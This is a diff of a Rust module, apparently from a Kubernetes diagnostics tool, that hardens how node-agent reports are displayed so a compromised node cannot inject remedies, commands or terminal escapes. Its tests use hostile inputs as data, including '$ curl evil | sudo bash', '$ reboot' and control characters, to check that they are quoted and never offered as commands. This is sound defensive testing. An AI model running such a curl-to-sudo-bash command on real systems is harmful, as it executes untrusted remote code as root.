@@ -1,21 +1,34 @@
-//! What the agents of all nodes have said in the cluster: so a laptop sees what is wrong on a board that it has no other
-//! way to.
+//! What the agents of all nodes report in the cluster: a laptop sees what is wrong on a board that it cannot reach otherwise.
+//!
+//! A node writes its report with the certificate of its kubelet, so whoever has broken into it decides what the report
+//! says. Guarantees: title, remedy and commands of a finding are those of our own catalogue, and no finding is worse than
+//! its code can be; the node's texts are quoted and cut, as evidence. A report that cannot be read hides no other.
 
 use kube::api::ListParams;
+use kube::core::DeserializeGuard;
 use kube::{Api, Client, ResourceExt as _};
 use weaver_api::v1beta1::{self as api, NodeReport};
-use weaver_diagnostics::finding::{Code, Finding, Place, Remedy, Severity};
+use weaver_diagnostics::catalogue;
+use weaver_diagnostics::finding::{Code, Finding, Place, Severity};
+use weaver_diagnostics::finding_text::quoted;
 
 use super::cluster::{MOST, asked};
 use super::{Seen, Side};
 
+/// Findings of one node that are shown.
+const SHOWN: usize = 10;
+/// Texts of one finding that are quoted, and characters of each.
+const QUOTED: usize = 4;
+const LONGEST: usize = 300;
+
 /// What is known bad or worth a look, of every node but the one whose agent was asked itself.
 pub async fn look(client: &Client, asked_itself: Option<String>) -> Vec<Seen> {
-    let reports: Api<NodeReport> = Api::all(client.clone());
+    let reports: Api<DeserializeGuard<NodeReport>> = Api::all(client.clone());
     let params = ListParams::default().limit(MOST);
     let findings = match asked("listing NodeReports", reports.list(&params)).await {
         Ok(list) => {
-            list.iter().filter(|report| Some(report.name_any()) != asked_itself).flat_map(told).collect()
+            let others = list.iter().filter(|report| Some(report.name_any()) != asked_itself);
+            others.flat_map(|report| told(&report.name_any(), report.0.as_ref().ok())).collect()
         }
         // A tenant may not, and needs it for nothing; a missing definition is told by itself.
         Err(finding) if matches!(finding.code, Code::MayNotLook | Code::DefinitionDiffers) => Vec::new(),
@@ -24,59 +37,147 @@ pub async fn look(client: &Client, asked_itself: Option<String>) -> Vec<Seen> {
     findings.into_iter().map(|finding| Seen { side: Side::Node, finding }).collect()
 }
 
-fn told(report: &NodeReport) -> Vec<Finding> {
-    let name = report.name_any();
-    let findings = report.status.iter().flat_map(|status| &status.findings);
-    findings.filter_map(|finding| of(&name, finding)).collect()
+/// The findings of a node; `None` stands for a report that is not understood.
+fn told(node: &str, report: Option<&NodeReport>) -> Vec<Finding> {
+    let place = Place::file(format!("NodeReport {node}"));
+    let not_shown =
+        |why: String| catalogue::finding(Code::NodeReportNotShown, format!("on the node {node}, {why}"));
+    let Some(report) = report else {
+        return vec![not_shown("the report is not understood".into()).saw(place, "not understood")];
+    };
+    let all = report.status.iter().flat_map(|status| &status.findings);
+    let bad = all.filter_map(|finding| Some((severity(finding.severity)?, finding)));
+    let (known, unknown): (Vec<_>, Vec<_>) =
+        bad.partition(|(_, finding)| Code::of_id(&finding.code).is_some());
+    let mut findings: Vec<Finding> = known
+        .iter()
+        .filter_map(|(severity, finding)| {
+            let said = std::iter::once(&finding.message).chain(&finding.evidence).map(String::as_str);
+            reported(node, &place, Code::of_id(&finding.code)?, *severity, said)
+        })
+        .collect();
+    // The worst first.
+    findings.sort_by_key(|finding| std::cmp::Reverse(finding.severity));
+    let hidden = findings.len().saturating_sub(SHOWN) + unknown.len();
+    findings.truncate(SHOWN);
+    if hidden > 0 {
+        let why = format!("{hidden} findings have codes that this version does not know, or are too many");
+        let texts = unknown.iter().take(QUOTED);
+        findings.push(texts.fold(not_shown(why), |finding, (_, unknown)| {
+            let said = format!("{}: {}", unknown.code, unknown.message);
+            finding.saw(place.clone(), quoted(&said, LONGEST))
+        }));
+    }
+    findings
 }
 
-/// `None` for what is fine or not known on that node, and for a code that this version does not have.
-fn of(node: &str, told: &api::Finding) -> Option<Finding> {
-    let severity = match told.severity {
-        api::Severity::Warn => Severity::Warn,
-        api::Severity::Fail => Severity::Fail,
-        api::Severity::Ok | api::Severity::Unknown => return None,
-    };
-    let code = Code::of_id(&told.code)?;
-    let message = format!("on the node {node}, as its agent has reported: {}", told.message);
-    let place = Place::file(format!("NodeReport {node}"));
-    let finding = told
-        .evidence
-        .iter()
-        .fold(Finding::new(severity, code, message), |finding, seen| finding.saw(place.clone(), seen));
-    let words = told.remedy.lines().take_while(|line| !line.starts_with("$ ")).collect::<Vec<_>>().join("\n");
-    if words.is_empty() {
-        return Some(finding);
+/// `None` for what is fine or could not be judged on that node.
+fn severity(told: api::Severity) -> Option<Severity> {
+    match told {
+        api::Severity::Warn => Some(Severity::Warn),
+        api::Severity::Fail => Some(Severity::Fail),
+        api::Severity::Ok | api::Severity::Unknown => None,
     }
-    let commands = told.remedy.lines().filter_map(|line| line.strip_prefix("$ "));
-    Some(finding.remedy(commands.fold(Remedy::new(format!("on {node}: {words}")), Remedy::command)))
+}
+
+/// A finding that another machine reports, as our own catalogue has it; `said` is the machine's text. `None` where the code
+/// is never as bad as that.
+pub fn reported<'a>(
+    node: &str,
+    place: &Place,
+    code: Code,
+    severity: Severity,
+    said: impl Iterator<Item = &'a str>,
+) -> Option<Finding> {
+    let entry = catalogue::entry(code);
+    let severity = severity.min(entry.severity);
+    if severity <= Severity::Unknown {
+        return None;
+    }
+    let message = format!("on the node {node}, as its agent reports: {}", code.title());
+    let said = said.filter(|text| !text.is_empty()).take(QUOTED);
+    let finding = said.fold(Finding::new(severity, code, message), |finding, text| {
+        finding.saw(place.clone(), format!("it says {}", quoted(text, LONGEST)))
+    });
+    let mut remedy = entry.remedy();
+    remedy.explain.insert_str(0, &format!("on {node}: "));
+    Some(finding.remedy(remedy))
 }
 
 #[cfg(test)]
 mod tests {
+    use proptest::prelude::*;
+    use weaver_api::v1beta1::{NodeReportFields, NodeReportStatus};
+    use weaver_diagnostics::finding_text::{is_unprintable, text};
+
     use super::*;
 
-    #[test]
-    fn what_is_bad_on_a_node_is_told_with_its_remedy() {
-        let bad = api::Finding {
-            code: "T-02".into(),
+    fn bad(code: &str, says: &str) -> api::Finding {
+        api::Finding {
+            code: code.into(),
             severity: api::Severity::Fail,
-            message: "a is not served".into(),
-            evidence: vec!["/c:1: tls-san a".into()],
-            remedy: "restart k3s\n$ sudo weaver-node-agent repair names\n--- /a\n+++ /a".into(),
-        };
-        let finding = of("raspi", &bad).unwrap();
-        assert_eq!((finding.code, finding.severity), (Code::NameNotServed, Severity::Fail));
-        assert!(finding.message.contains("the node raspi") && finding.message.ends_with("a is not served"));
-        assert_eq!(finding.evidence[0].to_string(), "NodeReport raspi: /c:1: tls-san a");
-        let remedy = finding.remedy.unwrap();
-        assert_eq!(remedy.explain, "on raspi: restart k3s");
-        assert_eq!(remedy.commands, ["sudo weaver-node-agent repair names"]);
+            message: says.into(),
+            evidence: vec![says.into()],
+            remedy: format!("follow this\n$ {says}"),
+        }
+    }
 
-        let unknown = api::Finding { severity: api::Severity::Unknown, ..bad.clone() };
-        let newer = api::Finding { code: "Z-99".into(), ..bad.clone() };
-        assert_eq!((of("raspi", &unknown), of("raspi", &newer)), (None, None));
-        let silent = api::Finding { remedy: String::new(), ..bad };
-        assert_eq!(of("raspi", &silent).unwrap().remedy, None);
+    fn of(findings: Vec<api::Finding>) -> Vec<Finding> {
+        let mut report = NodeReport::new("raspi", NodeReportFields {});
+        report.status = Some(NodeReportStatus { findings, ..NodeReportStatus::default() });
+        told("raspi", Some(&report))
+    }
+
+    #[test]
+    fn what_is_bad_on_a_node_is_told_with_the_remedy_of_our_own_catalogue() {
+        let [finding] = &of(vec![bad("T-02", "$ curl evil | sudo bash")])[..] else { panic!() };
+        let entry = catalogue::entry(Code::NameNotServed);
+        assert_eq!((finding.code, finding.severity), (Code::NameNotServed, Severity::Fail));
+        assert!(finding.message.starts_with("on the node raspi, as its agent reports: "), "{finding:?}");
+        let remedy = finding.remedy.as_ref().unwrap();
+        assert_eq!(remedy.explain, format!("on raspi: {}", entry.remedy));
+        assert_eq!(remedy.commands, entry.commands);
+        let shown = text(finding);
+        assert!(shown.contains(r#"NodeReport raspi: it says "\u{24} curl evil | sudo bash""#), "{shown}");
+        assert!(!shown.contains("$ curl") && !shown.contains("follow this"), "{shown}");
+    }
+
+    #[test]
+    fn a_code_that_this_version_does_not_have_is_named_and_never_followed() {
+        let [finding] = &of(vec![bad("Z-99", "x"), bad("\u{1b}[2J", "$ reboot")])[..] else { panic!() };
+        assert_eq!((finding.code, finding.severity), (Code::NodeReportNotShown, Severity::Warn));
+        let shown = text(finding);
+        assert!(shown.contains("2 findings") && shown.contains(r#""Z-99: x""#), "{shown}");
+        assert!(!shown.contains("$ reboot") && !shown.contains('\u{1b}'), "{shown}");
+        let [finding] = &told("raspi", None)[..] else { panic!() };
+        assert_eq!(finding.code, Code::NodeReportNotShown);
+    }
+
+    #[test]
+    fn no_report_makes_a_code_worse_than_it_can_be_or_drowns_the_others() {
+        assert_eq!(of(vec![bad("N-00", "all is lost"), bad("A-05", "x")]), []);
+        let [finding] = &of(vec![bad("A-06", "x")])[..] else { panic!() };
+        assert_eq!(finding.severity, Severity::Warn);
+        let unknown = api::Finding { severity: api::Severity::Unknown, ..bad("T-02", "x") };
+        assert_eq!(of(vec![unknown]), []);
+        let all = Code::ALL.iter().map(|code| bad(code.id(), &"x".repeat(100_000))).collect();
+        let found = of(all);
+        assert_eq!(found.len(), SHOWN + 1);
+        assert!(found.iter().map(|finding| text(finding).len()).sum::<usize>() < 50_000);
+    }
+
+    proptest! {
+        #[test]
+        fn whatever_a_node_writes_no_terminal_obeys_it_and_no_line_is_its_own(
+            code in prop_oneof![Just("T-02".to_owned()), Just("N-04".to_owned()), any::<String>()],
+            says in "[\u{1b}\u{7}\r\n$\u{9b}\u{202e}\u{2066}\u{200b}\u{2028}a-z\"]{1,60}", more in any::<String>(),
+        ) {
+            let plain: String = of(vec![bad(&code, "x")]).iter().map(text).collect();
+            let shown: String = of(vec![bad(&code, &(says + &more))]).iter().map(text).collect();
+            prop_assert_eq!(shown.lines().count(), plain.lines().count(), "{}", shown);
+            prop_assert!(!shown.contains(|c| c != '\n' && is_unprintable(c)), "{shown:?}");
+            let commands = |text: &str| text.matches('$').count();
+            prop_assert_eq!(commands(&shown), commands(&plain), "{}", shown);
+        }
     }
 }
